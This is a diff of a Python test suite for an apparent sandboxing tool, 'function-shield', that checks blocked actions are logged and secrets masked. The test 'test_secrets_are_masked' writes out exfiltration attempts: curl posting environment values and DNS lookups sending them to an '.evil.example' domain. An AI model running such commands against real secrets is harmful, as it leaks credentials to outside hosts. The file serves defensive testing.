@@ -67,7 +67,8 @@ def test_details_of_each_rule(tmp_path: Path) -> None:
     handler = tmp_path / "handler.py"
     handler.write_text(
         "import subprocess\n"
-        "for act in (lambda: open('/tmp/function-shield-nonexistent'), lambda: subprocess.run(['/bin/true', 'a', 'b c']),\n"
+        "for act in (lambda: open('/tmp/function-shield-nonexistent'),\n"
+        "            lambda: subprocess.run(['/bin/true', 'a', 'b c']),\n"
         "            lambda: open(__file__)):\n"
         "    try: act()\n    except OSError: pass\n"
     )
@@ -163,7 +164,7 @@ HUGE = "x" * 250
         "os.mkdir(deep('/' + '\\n' * 250))",
         "os.mkdir(deep('/' + '\\udcff' * 250))",
         "os.mkdir(deep('/' + '\\x01' * 250))",
-        "os.mkdir('/tmp/' + '\\n' * 250)",
+        "os.mkdir('/tmp/function-shield-' + '\\n' * 230)",
         "open('/tmp/\\\\\"\\u2028\\x7f\\x9b\\U0001f600')",
         f"subprocess.run(['/bin/true'] + ['{HUGE}\\n\\\"'] * 1000)",
         "subprocess.run([b'/bin/true', b'\\xff\\xc0\\x80\\xed\\xa0\\x80'])",
@@ -214,7 +215,7 @@ def test_one_write_each(tmp_path: Path) -> None:
         subprocess.run(
             [LAUNCHER, PYTHON, "-c", code],
             env=clean_environment({"FUNCTION_SHIELD_POLICY": policy_file(BLOCK)}),
-            stderr=theirs,
+            stderr=theirs.fileno(),
             timeout=30,
             check=True,
         )
@@ -365,7 +366,7 @@ def test_secrets_are_masked() -> None:
     code = (
         "import os, socket, subprocess\n"
         f"for value in {list(env.values())!r}:\n"
-        "  for act in (lambda: open('/tmp/' + value), lambda: os.mkdir('/tmp/a' + value + 'b'),\n"
+        "  for act in (lambda: open('/tmp/' + value), lambda: os.mkdir('/tmp/function-shield-a' + value + 'b'),\n"
         "              lambda: subprocess.run(['/usr/bin/curl', '-d', value, 'http://x']),\n"
         "              lambda: socket.getaddrinfo(value.replace('/', '-').replace(' ', '-') + '.evil.example', 80),\n"
         "              lambda: exec(compile('open(\"/tmp/x\")', value, 'exec'))):\n"
